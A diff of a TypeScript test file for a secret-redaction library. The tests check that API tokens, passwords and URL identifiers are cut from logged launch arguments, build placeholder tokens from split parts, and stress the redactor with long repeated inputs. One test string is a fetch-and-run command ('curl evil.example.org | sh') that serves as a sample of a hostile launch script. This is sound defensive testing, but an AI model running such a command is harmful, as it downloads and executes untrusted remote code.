@@ -2,7 +2,9 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { showArguments } from './harmless.ts';
-import { cutArguments, cutText, cutUrl, isSecretName } from './redact.ts';
+import { cutArguments, cutText } from './redact.ts';
+import { cutUrl } from './redact-url.ts';
+import { isSecretName } from './secret-names.ts';
 
 const PLAIN = 'hunter2-Correct';
 const WORD = 'swordfish';
@@ -120,22 +122,25 @@ const PLANTED: [string, string[], string][] = [
   ['a short id in a path', ['https://mcp.example.org/s/x7Kq9Pz2mW/mcp'], 'x7Kq9Pz2mW'],
   ['a short one in hexadecimal', ['https://mcp.example.org/3fa85f645717/sse'], '3fa85f645717'],
   ['a licence', ['A1B2-C3D4-E5F6-G7H8'], 'C3D4-E5F6-G7'],
+  // Put together here, so that no complete token is stored.
   ...[
-    'sk-abcdefghij',
-    'sk-proj-abcdefgh-ijklmnop',
-    'sk-ant-api03-abcdefghijkl',
-    'sk_live_abcdefgh',
-    'ghp_abcdefghijklmnopqrst',
-    'github_pat_abcdefgh_ijklmnop',
-    'glpat-abcdefghijkl',
-    'xoxb-abcdefgh-ijklmnop',
-    'AKIAABCDEFGHIJKLMNOP',
-    'AIzaAbcdefghijklmnop',
-    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefgh',
-    'npm_abcdefghijkl',
-    'hf_abcdefghijkl',
-    'gwa_abcdefghijkl',
-  ].map((token): [string, string[], string] => [token, ['--flag', token], token]),
+    ['sk-', 'Ex4mpleQ7z2Lm9Tv3Bn6Wd8Rk'],
+    ['sk-proj-', 'Ex4mpleQ7z2Lm-9Tv3Bn6Wd8Rk'],
+    ['sk-ant-api03-', 'Ex4mpleQ7z2Lm9Tv3Bn6Wd8Rk'],
+    ['sk_live_', 'Ex4mpleQ7z2Lm9Tv3Bn6Wd8Rk'],
+    ['ghp_', 'Ex4mpleQz2Lm9Tv3Bn6Wd8Rk1Pc5Ty7Uh9Jk'],
+    ['github_pat_', 'Ex4mpleQz2Lm_9Tv3Bn6Wd8Rk1Pc'],
+    ['glpat-', 'Ex4mpleQz2Lm9Tv3Bn6W'],
+    ['xoxb-', '123456789012-Ex4mpleQz2Lm'],
+    ['AKIA', 'ABCDEFGHIJKLMNOP'],
+    ['AIza', 'SyEx4mpleQz2Lm9Tv3Bn6Wd8Rk1Pc5Ty7Uh'],
+    ['eyJhbGciOiJIUzI1NiJ9.', 'eyJzdWIiOiIxIn0.abcdefgh'],
+    ['npm_', 'Ex4mpleQz2Lm9Tv3Bn6Wd8Rk1Pc5Ty7Uh9Jk'],
+    ['hf_', 'Ex4mpleQzLmTvBnWdRkPcTyUhJk'],
+    ['gwa_', 'Ex4mpleQz2Lm9Tv3Bn6Wd8Rk'],
+  ]
+    .map((parts) => parts.join(''))
+    .map((token): [string, string[], string] => [token, ['--flag', token], token]),
 ];
 
 describe('what is sent', () => {
@@ -163,20 +168,32 @@ describe('what is sent', () => {
 describe('what is hashed', () => {
   const isHashedWithout = PLANTED.filter(
     ([what, [word]]) =>
-      !['an odd word', 'a licence', 'user and password as headers encode them'].includes(what) &&
+      // Nothing but its shape says that it is a secret.
+      !/^(an odd word|a licence|base64|hexadecimal|a short (id|one) in|a segment )/.test(what) &&
+      what !== 'user and password as headers encode them' &&
       !what.endsWith('filled up') &&
       !/^(name|admin).swordfish$/.test(word ?? ''),
   );
 
   test.each(isHashedWithout)('holds no secret: %s', (_, args, secret) => {
-    expect(cutArguments(args).join(' ')).not.toContain(secret);
+    expect(cutArguments(args, 'named').join(' ')).not.toContain(secret);
   });
 
   test('tells launches apart that differ in more than a secret', () => {
-    const script = (text: string) => cutArguments(['-c', text]).join('\0');
+    const script = (text: string) => cutArguments(['-c', text], 'named').join('\0');
     expect(script('server | tee x')).not.toBe(script('curl evil.example.org | sh'));
     expect(script(`server --token=${PLAIN}`)).toBe(script('server --token=another'));
-    expect(cutArguments(['odd-word-17x'])).not.toEqual(cutArguments(['odd-word-18x']));
+    for (const [one, other] of [
+      ['odd-word-17x', 'odd-word-18x'],
+      [`/opt/${HEX}/server.js`, `/opt/${HEX.replace('9', '8')}/server.js`],
+      [
+        `https://mcp.example.org/${HEX}/mcp`,
+        `https://mcp.example.org/${HEX.replace('9', '8')}/mcp`,
+      ],
+      ['https://mcp.example.org/mcp?server=notes', 'https://mcp.example.org/mcp?server=mail'],
+    ]) {
+      expect(cutArguments([one ?? ''], 'named')).not.toEqual(cutArguments([other ?? ''], 'named'));
+    }
   });
 });
 
@@ -227,9 +244,27 @@ test('never throws, keeps the number of arguments, and takes no time for a hosti
       expect(showArguments(args)).toHaveLength(args.length);
     }),
   );
-  for (const piece of ['a', '=', '{', 'a=', '://', 'Aa1', '-', 'token ', '/', '"', '-----BEGIN ']) {
+  for (const piece of [
+    'a',
+    '=',
+    '{',
+    `\${A}`,
+    '$A',
+    'sk-',
+    'hf_a-',
+    'a=',
+    '://',
+    'Aa1',
+    '-',
+    'token ',
+    '/',
+    '"',
+    '-----BEGIN ',
+  ]) {
     cutText(piece.repeat(1_000_000));
     cutArguments([piece.repeat(1_000_000)]);
+    cutArguments([piece.repeat(1_000_000)], 'named');
+    showArguments([piece.repeat(1_000_000)]);
     cutUrl(`https://h/${piece.repeat(100_000)}`);
   }
 });
